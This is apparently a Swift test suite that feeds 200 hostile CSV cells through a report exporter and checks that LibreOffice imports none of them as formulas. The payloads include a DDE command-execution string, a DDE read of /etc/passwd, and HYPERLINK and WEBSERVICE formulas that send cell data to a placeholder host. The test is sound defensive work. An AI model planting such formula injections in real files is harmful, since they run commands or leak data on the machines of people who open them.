import Casework
import JSON
import Reporting
import SafeText
import Testing

/// What LibreOffice makes of the file, told to evaluate formulas on import.
@Suite struct SpreadsheetTests {
  private static let openers = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\u{0}=", "＝", "＋", "－", "＠", " =", "\u{A0}=", "\u{3000}=", "\"=",
    "\";=", "\",=", "'=", "﹢",
  ]
  private static let payloads = [
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
    "WEBSERVICE(\"http://example.invalid\")", "DDE(\"soffice\",\"/etc/passwd\",\"A1\")", "SUM(D2:D9)", "2*3", "A1",
    "IF(TRUE(),\"a\",\"b\")", "1\n=1+1",
  ]

  private func cells(_ bytes: [UInt8]) throws -> [(text: String, formula: String?, type: String?)] {
    let rows = try Helper.run("spreadsheet.py", program: Helper.soffice ?? "", on: bytes, named: "report.csv")
    return (rows.array ?? []).flatMap { $0.array ?? [] }.map { cell in
      (cell.object?["text"]?.string ?? "", cell.object?["formula"]?.string, cell.object?["type"]?.string)
    }
  }

  @Test(.enabled(if: Helper.soffice != nil && Helper.python != nil, "LibreOffice (soffice) is not installed here"))
  func takesNoneOfTwoHundredHostileCellsForAFormula() throws {
    let hostile = Self.openers.flatMap { opener in Self.payloads.map { SafeText(escaping: opener + $0) } }
    #expect(hostile.count == 200)
    let report = SampleReport.document([
      ReportSection(
        key: "hostile", title: "Hostile",
        .bars(
          BarTable(
            heading: "Label", measure: "Count",
            rows: hostile.enumerated().map { .init($0.element, .count(100_000 + $0.offset)) })))
    ])
    let cells = try cells(report.csv(in: .gmt))
    #expect(cells.allSatisfy { $0.formula == nil })
    #expect(cells.filter { $0.text.contains("example.invalid") }.count == 40, "the cells are there, as text")
    let numbers = cells.filter { $0.type == "float" }.compactMap { Int($0.text) }
    #expect(Set(numbers).isSuperset(of: 100_000..<100_200), "numbers stay numbers")
  }

  @Test(.enabled(if: Helper.soffice != nil && Helper.python != nil, "LibreOffice (soffice) is not installed here"))
  func wouldTakeACellWithoutTheApostropheForAFormula() throws {
    let cells = try cells(Array("\"a\",\"b\"\r\n\"=1+1\",\"'=1+1\"\r\n".utf8))
    #expect(cells.compactMap(\.formula) == ["of:=1+1"])
  }
}
